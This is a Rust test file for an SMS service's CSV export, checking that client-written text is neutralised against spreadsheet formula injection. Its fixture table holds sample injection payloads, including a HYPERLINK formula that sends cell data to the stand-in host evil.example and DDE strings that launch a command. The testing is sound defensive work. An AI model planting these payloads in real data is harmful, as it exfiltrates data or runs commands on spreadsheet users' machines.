//! The CSV export cannot carry spreadsheet formulas: free text written by clients (API key
//! names) and phones (`last_error`) that a spreadsheet would run is neutralised; phone numbers
//! and everything the service writes itself stay as they are.

use mongodb::bson::oid::ObjectId;
use reqwest::StatusCode;

use crate::helpers::*;

/// (stored text, what the export's cell must hold)
const CELLS: [(&str, &str); 12] = [
    (
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    ),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    (
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("SafeShop", "SafeShop"),
    ("Phòng khám Hà Nội", "Phòng khám Hà Nội"),
    ("a=b+c", "a=b+c"),
    ("'=quoted already", "'=quoted already"),
    (" =1+1", " =1+1"),
    ("RADIO_OFF", "RADIO_OFF"),
];

#[tokio::test]
async fn formula_cells_are_exported_as_text_and_numbers_unchanged() {
    let app = spawn_app().await;
    let agent = ObjectId::new();
    let n = CELLS.len() as i64;
    let messages: Vec<_> = CELLS
        .iter()
        .enumerate()
        .map(|(i, (stored, _))| {
            // Oldest first in the export: the first case is the oldest message.
            let mut m = staged(agent, 50, (n - i as i64) * 1000);
            m.client_name = (*stored).to_owned();
            m.last_error = Some((*stored).to_owned());
            m
        })
        .collect();
    insert(&app, &messages).await;

    let res = app.get("/sms/reports/export.csv", Auth::Operator).await;
    assert_eq!(res.status(), StatusCode::OK);
    let body = res.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (client, to, last_error) = (column("client_name"), column("to"), column("last_error"));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), CELLS.len());
    for (row, (stored, shown)) in rows.iter().zip(CELLS) {
        assert_eq!(&row[client], shown, "client_name {stored:?}");
        assert_eq!(&row[last_error], shown, "last_error {stored:?}");
        assert_eq!(&row[to], "+84901234567", "E.164 numbers stay as they are");
    }
}

#[tokio::test]
async fn a_number_that_is_not_e164_is_neutralised_too() {
    let app = spawn_app().await;
    let mut odd = staged(ObjectId::new(), 50, 0);
    odd.to = "=1+1".to_owned();
    insert(&app, &[odd]).await;
    let res = app.get("/sms/reports/export.csv", Auth::Operator).await;
    assert_eq!(res.status(), StatusCode::OK);
    let body = res.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[4], "'=1+1");
}
